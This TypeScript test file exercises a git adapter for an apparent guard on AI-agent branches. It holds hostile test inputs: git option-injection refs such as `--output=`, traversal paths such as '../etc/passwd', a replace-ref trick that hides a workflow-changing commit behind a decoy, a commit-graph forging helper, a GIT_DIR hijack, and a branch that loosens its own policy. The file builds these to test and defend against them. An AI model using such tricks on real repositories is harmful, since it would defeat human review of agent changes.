    const repo = await repoWithBase();
    for (let i = 0; i < 5; i++) await repo.write(`f${i}`, `${i}\n`);
    await repo.commit('five');
    await expectGitError(computeChangeSet(repo.dir, 'main', 'agent', { maxEntries: 4 }), 'TOO_LARGE');
    expect((await computeChangeSet(repo.dir, 'main', 'agent', { maxEntries: 5 })).entries).toHaveLength(5);
  });
});

describe('fail closed on refs, history and repositories', () => {
  /** main with two commits; agent branched at the first and has its own commit; main moved on. */
  async function divergedOrigin(): Promise<TestRepo> {
    const repo = await newRepo();
    await repo.write('README.md', '1\n');
    await repo.commit('c1');
    await repo.checkout('agent', { create: true });
    await repo.write('.github/workflows/x.yml', 'on: push\n');
    await repo.commit('agent change');
    await repo.checkout('main');
    await repo.write('README.md', '2\n');
    await repo.commit('c2');
    return repo;
  }

  test('ATTACKS 7.30: a fetch-depth 1 clone is refused with the fetch-depth hint', async () => {
    const origin = await divergedOrigin();
    const clone = await origin.cloneShallow({ depth: 1, singleBranch: false });
    cleanups.push(() => clone.cleanup());
    expect(await isShallow(clone.dir)).toBe(true);
    expect(await isShallow(origin.dir)).toBe(false);

    const shallow = await expectGitError(computeChangeSet(clone.dir, 'origin/main', 'origin/agent'), 'SHALLOW_REPOSITORY');
    expect(shallow.hint).toContain('fetch-depth: 0');

    const noBase = await expectGitError(
      computeChangeSet(clone.dir, 'origin/main', 'origin/agent', { allowShallow: true }),
      'NO_MERGE_BASE',
    );
    expect(noBase.message).toMatch(/shallow/);
    expect(noBase.hint).toContain('fetch-depth: 0');
    await expectGitError(mergeBase(clone.dir, 'origin/main', 'origin/agent'), 'NO_MERGE_BASE');
  });

  test('ATTACKS 7.30: a single-branch shallow clone lacks the base ref: UNKNOWN_REF telling to fetch it', async () => {
    const origin = await divergedOrigin();
    const clone = await origin.cloneShallow({ depth: 1, branch: 'agent' });
    cleanups.push(() => clone.cleanup());
    const err = await expectGitError(computeChangeSet(clone.dir, 'origin/main', 'HEAD', { allowShallow: true }), 'UNKNOWN_REF');
    expect(err.message).toMatch(/shallow/);
    expect(err.hint).toMatch(/fetch/);
  });

  test('a deep enough shallow clone works when explicitly allowed', async () => {
    const origin = await divergedOrigin();
    const clone = await origin.cloneShallow({ depth: 5, singleBranch: false });
    cleanups.push(() => clone.cleanup());
    const cs = await computeChangeSet(clone.dir, 'origin/main', 'origin/agent', { allowShallow: true });
    expect(cs.entries.map((e) => e.path)).toEqual(['.github/workflows/x.yml']);
  });

  test('an unknown ref is UNKNOWN_REF with a fetch hint', async () => {
    const repo = await repoWithBase();
    const err = await expectGitError(computeChangeSet(repo.dir, 'origin/main', 'agent'), 'UNKNOWN_REF');
    expect(err.hint).toMatch(/fetch/);
    await expectGitError(resolveCommit(repo.dir, 'no-such-branch'), 'UNKNOWN_REF');
    await expectGitError(resolveCommit(repo.dir, 'f'.repeat(40)), 'UNKNOWN_REF');
  });

  test('ATTACKS 7.32: the all-zero SHA of a new branch push is not a base', async () => {
    const repo = await repoWithBase();
    const err = await expectGitError(computeChangeSet(repo.dir, ZERO, 'agent'), 'UNKNOWN_REF');
    expect(err.hint).toMatch(/merge base/);
  });

  test('refs starting with "-" (option injection) or ":" (message search) are refused without running git on them', async () => {
    const repo = await repoWithBase();
    const out = join(repo.dir, 'injected.txt');
    await expectGitError(resolveCommit(repo.dir, `--output=${out}`), 'INVALID_REF');
    await expectGitError(computeChangeSet(repo.dir, 'main', `--output=${out}`), 'INVALID_REF');
    await expectGitError(computeChangeSet(repo.dir, '-main', 'agent'), 'INVALID_REF');
    await expectGitError(resolveCommit(repo.dir, ':/base'), 'INVALID_REF');
    await expectGitError(resolveCommit(repo.dir, 'main\n--all'), 'INVALID_REF');
    await expectGitError(resolveCommit(repo.dir, ''), 'INVALID_REF');
    expect(existsSync(out)).toBe(false);
  });

  test('resolveCommit returns the full commit SHA, peeling annotated tags', async () => {
    const repo = await repoWithBase();
    const sha = await repo.rev('main');
    await repo.git('tag', '-a', '-m', 'release', 'v1', 'main');
    expect(await resolveCommit(repo.dir, 'v1')).toBe(sha);
    expect(await resolveCommit(repo.dir, sha.slice(0, 12))).toBe(sha);
    expect(await resolveCommit(repo.dir, 'main')).toMatch(/^[0-9a-f]{40}$/);
    // A tree is not a commit.
    await expectGitError(resolveCommit(repo.dir, 'main^{tree}'), 'UNKNOWN_REF');
  });

  test('not a repository, or a missing directory, is NOT_A_REPOSITORY', async () => {
    const dir = makeTempDir('agent-guard-norepo-');
    cleanups.push(() => rm(dir, { recursive: true, force: true }));
    const err = await expectGitError(computeChangeSet(dir, 'main', 'agent'), 'NOT_A_REPOSITORY');
    expect(err.hint).toBeDefined();
    await expectGitError(computeChangeSet(join(dir, 'missing'), 'main', 'agent'), 'NOT_A_REPOSITORY');
    await expectGitError(readFileAtCommit(join(dir, 'missing'), 'main', 'a'), 'NOT_A_REPOSITORY');
  });

  test('hostile repository config and environment cannot change the change set', async () => {
    const repo = await repoWithBase({ '.github/workflows/deploy.yml': 'on: push\n', 'docs/a.md': 'a\n' });
    await repo.mv('.github/workflows/deploy.yml', 'docs/deploy.md');
    await repo.write('docs/é.md', 'x\n');
    await repo.commit('change');
    const expected = await changes(repo);
    for (const [k, v] of [
      ['diff.renames', 'false'],
      ['diff.relative', 'true'],
      ['diff.noprefix', 'true'],
      ['core.quotePath', 'true'],
      ['diff.renameLimit', '1'],
      ['diff.external', 'false'],
      ['core.abbrev', '7'],
      ['color.diff', 'always'],
      // Case-insensitive and decomposing file systems' settings change nothing in a tree diff.
      ['core.ignorecase', 'true'],
      ['core.precomposeunicode', 'true'],
      ['core.commitGraph', 'true'],
    ] as const) {
      await repo.git('config', k, v);
    }
    expect(await changes(repo)).toEqual(expected);
    // From a subdirectory, paths are still repository-relative and complete.
    expect((await computeChangeSet(join(repo.dir, 'docs'), 'main', 'agent')).entries).toEqual(expected);
    // An inherited GIT_DIR pointing at another repository is ignored.
    const other = await repoWithBase();
    const saved = process.env.GIT_DIR;
    process.env.GIT_DIR = join(other.dir, '.git');
    try {
      expect(await changes(repo)).toEqual(expected);
    } finally {
      if (saved === undefined) delete process.env.GIT_DIR;
      else process.env.GIT_DIR = saved;
    }
  });

  test('replace refs cannot swap the head commit for a harmless one', async () => {
    const repo = await repoWithBase();
    await repo.write('.github/workflows/evil.yml', 'on: push\n');
    const evil = await repo.commit('evil');
    await repo.checkout('decoy', { create: true, from: 'main' });
    await repo.write('docs/ok.md', 'ok\n');
    const decoy = await repo.commit('decoy');
    await repo.git('replace', evil, decoy);
    // Plain git now shows the decoy for `agent`...
    expect(await repo.git('diff', '--name-only', 'main', 'agent')).toBe('docs/ok.md');
    // ...the adapter does not.
    expect((await changes(repo)).map((e) => e.path)).toEqual(['.github/workflows/evil.yml']);
  });
});

describe('readFileAtCommit (authority from the base commit, invariant 1)', () => {
  test('reads the base version while the work tree and head have another one', async () => {
    const repo = await repoWithBase({ '.github/agent-policy.yml': 'version: 1\ndefault_tier: high\n' });
    await repo.write('.github/agent-policy.yml', 'version: 1\ndefault_tier: low\n');
    await repo.commit('widen policy');
    await repo.write('.github/agent-policy.yml', 'uncommitted\n');
    const base = await repo.rev('main');
    expect((await readFileAtCommit(repo.dir, base, '.github/agent-policy.yml'))?.toString()).toBe('version: 1\ndefault_tier: high\n');
    expect((await readFileAtCommit(repo.dir, 'agent', '.github/agent-policy.yml'))?.toString()).toBe('version: 1\ndefault_tier: low\n');
  });

  test('null when absent; errors for directories, symlinks, submodules, bad paths and size', async () => {
    const repo = await repoWithBase({ 'dir/file.txt': 'x\n', 'odd\nname.txt': 'newline\n', 'big.txt': 'y'.repeat(100) });
    await repo.symlink('link.yml', 'dir/file.txt');
    await repo.symlink('linkdir', 'dir');
    await repo.addGitlink('sub', await repo.rev('main'));
    await repo.commit('kinds');
    await repo.write('untracked.txt', 'u\n');
    const head = await repo.rev('agent');
    expect(await readFileAtCommit(repo.dir, head, 'missing.yml')).toBeNull();
    expect(await readFileAtCommit(repo.dir, head, 'untracked.txt')).toBeNull();
    expect(await readFileAtCommit(repo.dir, head, 'dir/missing')).toBeNull();
    expect(await readFileAtCommit(repo.dir, head, 'Dir/file.txt')).toBeNull();
    expect(await readFileAtCommit(repo.dir, head, 'linkdir/file.txt')).toBeNull();
    expect((await readFileAtCommit(repo.dir, head, 'odd\nname.txt'))?.toString()).toBe('newline\n');
    expect((await readFileAtCommit(repo.dir, head, 'dir/file.txt'))?.toString()).toBe('x\n');
    await expectGitError(readFileAtCommit(repo.dir, head, 'dir'), 'NOT_A_FILE');
    await expectGitError(readFileAtCommit(repo.dir, head, 'link.yml'), 'NOT_A_FILE');
    await expectGitError(readFileAtCommit(repo.dir, head, 'sub'), 'NOT_A_FILE');
    for (const bad of ['../etc/passwd', './README.md', '/etc/passwd', 'dir/../README.md', 'dir//file.txt', 'dir/', '', 'a\0b']) {
      await expectGitError(readFileAtCommit(repo.dir, head, bad), 'INVALID_PATH');
    }
    await expectGitError(readFileAtCommit(repo.dir, head, 'big.txt', { maxBytes: 99 }), 'TOO_LARGE');
    await expectGitError(readFileAtCommit(repo.dir, '-x', 'README.md'), 'INVALID_REF');
    await expectGitError(readFileAtCommit(repo.dir, 'nope', 'README.md'), 'UNKNOWN_REF');
  });
});

describe('branches and remotes', () => {
  test('defaultBranch, currentBranch and remoteUrl on a clone and on a bare init', async () => {
    const origin = await repoWithBase();
    await origin.checkout('main');
    const clone = await origin.clone();
    cleanups.push(() => clone.cleanup());
    expect(await defaultBranch(clone.dir)).toBe('main');
    expect(await currentBranch(clone.dir)).toBe('main');
    expect(await remoteUrl(clone.dir)).toBe(`file://${origin.dir}`);
    expect(await remoteUrl(clone.dir, 'upstream')).toBeNull();

    expect(await defaultBranch(origin.dir)).toBeNull();
    expect(await remoteUrl(origin.dir)).toBeNull();
    await origin.git('checkout', '-q', '--detach', 'HEAD');
    expect(await currentBranch(origin.dir)).toBeNull();

    await origin.git('remote', 'add', 'origin', 'https://x-access-token:ghs_secret@github.com/o/r.git');
    expect(await remoteUrl(origin.dir)).toBe('https://github.com/o/r.git');
    await expectGitError(remoteUrl(origin.dir, '--global'), 'INVALID_REF');
  });
});

describe('commitInfo (approver independence, ATTACKS 7.68)', () => {
  test('authors, committers and Co-authored-by trailers of merge-base..head, as given', async () => {
    const repo = await repoWithBase();
    await repo.write('a.txt', 'a\n');
    await repo.commit('agent work\n\nCo-authored-by: Jane Doe <jane@example.com>\nco-authored-by: octocat <583231+octocat@users.noreply.github.com>\n', {
      author: { name: 'ci-agent[bot]', email: '1+ci-agent[bot]@users.noreply.github.com' },
      committer: { name: 'GitHub', email: 'noreply@github.com' },
    });
    // Base moves on and is merged in: its commits and authors are not part of the range.
    await repo.checkout('main');
    await repo.write('b.txt', 'b\n');
    await repo.commit('base work', { author: { name: 'Maintainer', email: 'maint@example.com' } });
    await repo.checkout('agent');
    await repo.merge('main', 'Merge main\n\nSome text.\nCo-authored-by: Hidden Helper <hidden@example.com>\nnot a trailer block');
    await repo.write('c.txt', 'c\n');
    await repo.commit('more\n\nCo-authored-by: Folded\n  Name <folded@example.com>\n', {
      author: { name: 'Human', email: 'human@example.com' },
    });
    const mb = await mergeBase(repo.dir, 'main', 'agent');
    const info = await commitInfo(repo.dir, { base: mb, head: 'agent' });
    expect(info.commits).toHaveLength(3);
    expect(info.authors).toEqual([
      { name: 'Human', email: 'human@example.com' },
      { name: 'Test Author', email: 'author@example.com' },
      { name: 'ci-agent[bot]', email: '1+ci-agent[bot]@users.noreply.github.com' },
    ]);
    expect(info.committers).toEqual([
      { name: 'Test Committer', email: 'committer@example.com' },
      { name: 'GitHub', email: 'noreply@github.com' },
    ]);
    expect(info.coAuthors).toEqual([
      { name: 'Folded Name', email: 'folded@example.com', raw: 'Folded Name <folded@example.com>' },
      { name: 'Hidden Helper', email: 'hidden@example.com', raw: 'Hidden Helper <hidden@example.com>' },
      { name: 'Jane Doe', email: 'jane@example.com', raw: 'Jane Doe <jane@example.com>' },
      { name: 'octocat', email: '583231+octocat@users.noreply.github.com', raw: 'octocat <583231+octocat@users.noreply.github.com>' },
    ]);
    expect(info.authors.map((a) => a.email)).not.toContain('maint@example.com');
    const merge = info.commits.find((c) => c.parents.length === 2);
    expect(merge?.coAuthors.map((c) => c.email)).toEqual(['hidden@example.com']);
  });
});

describe('patchId (approval across a conflict-free rebase, ATTACKS 7.69/7.70)', () => {
  test('equal for a conflict-free rebase of the same change, different for any other patch', async () => {
    const repo = await repoWithBase({ 'a.txt': 'a\n', 'b.yml': 'job:\n  run: test\n', 's.sh': 'echo\n' });
    await repo.write('b.yml', 'job:\n  run: test\n  extra: 1\n');
    const v1 = await repo.commit('agent change');
    const id1 = await patchId(repo.dir, await mergeBase(repo.dir, 'main', 'agent'), 'agent');
    expect(id1).toMatch(/^[0-9a-f]{40}$/);

    // main changes another file; rebase is conflict-free; the patch is identical.
    await repo.checkout('main');
    await repo.write('a.txt', 'a2\n');
    await repo.commit('base moves');
    await repo.checkout('agent');
    const v2 = await repo.rebase('main');
    expect(v2).not.toBe(v1);
    const id2 = await patchId(repo.dir, await mergeBase(repo.dir, 'main', 'agent'), 'agent');
    expect(id2).toBe(id1);

    // A different patch: another value.
    await repo.checkout('other', { create: true, from: 'main' });
    await repo.write('b.yml', 'job:\n  run: test\n  extra: 2\n');
    await repo.commit('other change');
    expect(await patchId(repo.dir, 'main', 'other')).not.toBe(id1);

    // Whitespace-only difference (YAML indentation changes structure): another value.
    await repo.checkout('ws', { create: true, from: 'main' });
    await repo.write('b.yml', 'job:\n  run: test\nextra: 1\n');
    await repo.commit('ws change');
    expect(await patchId(repo.dir, 'main', 'ws')).not.toBe(id1);

    // Same content plus a mode change: another value.
    await repo.checkout('mode', { create: true, from: 'main' });
    await repo.write('b.yml', 'job:\n  run: test\n  extra: 1\n', { executable: true });
    await repo.commit('mode change');
    expect(await patchId(repo.dir, 'main', 'mode')).not.toBe(id1);

    await expectGitError(patchId(repo.dir, 'main', 'main'), 'EMPTY_CHANGESET');
  });
});

describe('raw diff parser (fail closed on anything unexpected)', () => {
  const oid = (c: string): string => c.repeat(40);
  const rec = (...fields: string[]): Buffer => Buffer.from(fields.map((f) => `${f}\0`).join(''), 'latin1');

  test('parses every status and is independent of chunk boundaries', () => {
    const out = Buffer.concat([
      rec(`:000000 100644 ${ZERO} ${oid('a')} A`, 'new'),
      rec(`:100644 100755 ${oid('b')} ${oid('b')} M`, 'mode'),
      rec(`:100644 000000 ${oid('c')} ${ZERO} D`, 'gone'),
      rec(`:100644 100644 ${oid('d')} ${oid('e')} R087`, 'old', 'new2'),
      rec(`:100644 100644 ${oid('d')} ${oid('d')} C100`, 'src', 'dst'),
      rec(`:100644 120000 ${oid('e')} ${oid('f')} T`, 'typ'),
      rec(`:100644 100644 ${'1'.repeat(64)} ${'2'.repeat(64)} M`, 'sha256'),
    ]);
    const whole = parseRawDiff(out);
    expect(whole.map((e) => [e.status, e.previousPath, e.path, e.score])).toEqual([
      ['added', undefined, 'new', undefined],
      ['modified', undefined, 'mode', undefined],
      ['deleted', undefined, 'gone', undefined],
      ['renamed', 'old', 'new2', 87],
      ['copied', 'src', 'dst', 100],
      ['type_changed', undefined, 'typ', undefined],
      ['modified', undefined, 'sha256', undefined],
    ]);
    const p = new RawDiffParser();
    for (let i = 0; i < out.length; i++) p.push(out.subarray(i, i + 1));
    expect(p.end()).toEqual(whole);
  });

  test.each([
    ['unmerged status U', rec(`:100644 100644 ${oid('a')} ${oid('b')} U`, 'x'), 'UNSUPPORTED_STATUS'],
    ['unknown status X', rec(`:100644 100644 ${oid('a')} ${oid('b')} X`, 'x'), 'UNSUPPORTED_STATUS'],
    ['truncated record', Buffer.from(`:000000 100644 ${ZERO} ${oid('a')} A\0pa`, 'latin1'), 'UNEXPECTED_OUTPUT'],
    ['rename missing its second path', rec(`:100644 100644 ${oid('a')} ${oid('a')} R100`, 'old'), 'UNEXPECTED_OUTPUT'],
    ['combined diff', rec(`::100644 100644 100644 ${oid('a')} ${oid('b')} ${oid('c')} MM`, 'x'), 'UNEXPECTED_OUTPUT'],
    ['unknown mode', rec(`:100664 100644 ${oid('a')} ${oid('b')} M`, 'x'), 'UNEXPECTED_OUTPUT'],
    ['abbreviated ids', rec(`:100644 100644 aaaaaaa bbbbbbb M`, 'x'), 'UNEXPECTED_OUTPUT'],
    ['add with an old blob', rec(`:000000 100644 ${oid('a')} ${oid('b')} A`, 'x'), 'UNEXPECTED_OUTPUT'],
    ['rename without score', rec(`:100644 100644 ${oid('a')} ${oid('a')} R`, 'a', 'b'), 'UNEXPECTED_OUTPUT'],
    ['empty path', rec(`:000000 100644 ${ZERO} ${oid('a')} A`, ''), 'UNEXPECTED_OUTPUT'],
    ['mixed id lengths', rec(`:100644 100644 ${oid('a')} ${'b'.repeat(64)} M`, 'x'), 'UNEXPECTED_OUTPUT'],
    ['upper-case hex', rec(`:100644 100644 ${oid('A')} ${oid('b')} M`, 'x'), 'UNEXPECTED_OUTPUT'],
    ['four-digit score', rec(`:100644 100644 ${oid('a')} ${oid('a')} R1000`, 'a', 'b'), 'UNEXPECTED_OUTPUT'],
    ['score above 100', rec(`:100644 100644 ${oid('a')} ${oid('a')} R101`, 'a', 'b'), 'UNEXPECTED_OUTPUT'],
    ['trailing garbage', rec(`:100644 100644 ${oid('a')} ${oid('b')} M x`, 'x'), 'UNEXPECTED_OUTPUT'],
    ['lower-case status', rec(`:100644 100644 ${oid('a')} ${oid('b')} m`, 'x'), 'UNEXPECTED_OUTPUT'],
    ['quoted non -z output', Buffer.from(`:000000 100644 ${ZERO} ${oid('a')} A\t"\\303\\251"\n`, 'latin1'), 'UNEXPECTED_OUTPUT'],
  ])('%s is an error', (_name, input, code) => {
    let caught: unknown;
    try {
      parseRawDiff(input);
    } catch (err) {
      caught = err;
    }
    expect(caught).toBeInstanceOf(GitError);
    expect((caught as GitError).code).toBe(code);
  });

  test('invalid UTF-8 on either side of a rename flags the entry; a clean rename after it is not flagged', () => {
    const bad = Buffer.from([0x64, 0x6f, 0x63, 0x73, 0x2f, 0xff]); // "docs/\xff"
    const out = Buffer.concat([
      Buffer.from(`:100644 100644 ${oid('a')} ${oid('a')} R100\0`, 'latin1'),
      bad,
      Buffer.from('\0new-name\0', 'latin1'),
      Buffer.from(`:100644 100644 ${oid('b')} ${oid('b')} R100\0old-name\0`, 'latin1'),
      bad,
      Buffer.from('\0', 'latin1'),
      rec(`:100644 100644 ${oid('c')} ${oid('c')} R100`, 'clean-old', 'clean-new'),
      rec(`:000000 100644 ${ZERO} ${oid('d')} A`, 'caf\xc3\xa9.md'),
    ]);
    expect(parseRawDiff(out).map((e) => [e.previousPath, e.path, e.invalidUtf8])).toEqual([
      ['docs/\\xff', 'new-name', true],
      ['old-name', 'docs/\\xff', true],
      ['clean-old', 'clean-new', undefined],
      [undefined, 'café.md', undefined],
    ]);
  });

  test('decodeGitPath is lossless for invalid UTF-8 and keeps a BOM', () => {
    expect(decodeGitPath(Buffer.from('a/é.md'))).toEqual({ text: 'a/é.md', invalidUtf8: false });
    expect(decodeGitPath(Buffer.from([0xef, 0xbb, 0xbf, 0x61]))).toEqual({ text: '\uFEFFa', invalidUtf8: false });
    expect(decodeGitPath(Buffer.from([0x61, 0x5c, 0xff]))).toEqual({ text: 'a\\\\\\xff', invalidUtf8: true });
    // Overlong encoding of "/" and a lone surrogate are invalid.
    expect(decodeGitPath(Buffer.from([0xc0, 0xaf]))).toEqual({ text: '\\xc0\\xaf', invalidUtf8: true });
    expect(decodeGitPath(Buffer.from([0xed, 0xa0, 0x80]))).toEqual({ text: '\\xed\\xa0\\x80', invalidUtf8: true });
  });
});

test('git-repo helper isolates from the machine config', async () => {
  const dir = makeTempDir('agent-guard-iso-');
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  await mkdir(join(dir, 'r'));
  const r = await runGit(join(dir, 'r'), ['config', '--show-origin', '--list'], { allowFailure: true });
  expect(r.stdout.toString()).not.toMatch(/file:(\/etc\/gitconfig|.*\.gitconfig)/);
});

/**
 * Rewrite, in a commit-graph file, the first parent of `commit` to `parent` (both must be in the
 * graph). Format: 8-byte header (byte 6: chunk count), a table of (4-byte id, 8-byte offset) entries,
 * OIDL (sorted object ids) and CDAT (per commit: tree id, parent 1 index, parent 2 index, 8 bytes of
 * generation and date). git does not check the file's trailing hash when it loads it.
 */
function forgeCommitGraphParent(file: string, commit: string, parent: string): void {
  const data = readFileSync(file);
  const chunks = new Map<string, number>();
  for (let i = 0; i <= data[6]!; i++) chunks.set(data.toString('latin1', 8 + 12 * i, 12 + 12 * i), Number(data.readBigUInt64BE(12 + 12 * i)));
  const oidl = chunks.get('OIDL')!;
  const cdat = chunks.get('CDAT')!;
  const ids: string[] = [];
  for (let off = oidl; off < cdat; off += 20) ids.push(data.toString('hex', off, off + 20));
  const at = ids.indexOf(commit);
  const to = ids.indexOf(parent);
  if (at < 0 || to < 0) throw new Error('commit or parent not in the commit-graph');
  data.writeUInt32BE(to, cdat + at * 36 + 20);
  chmodSync(file, 0o644);
  writeFileSync(file, data);
}
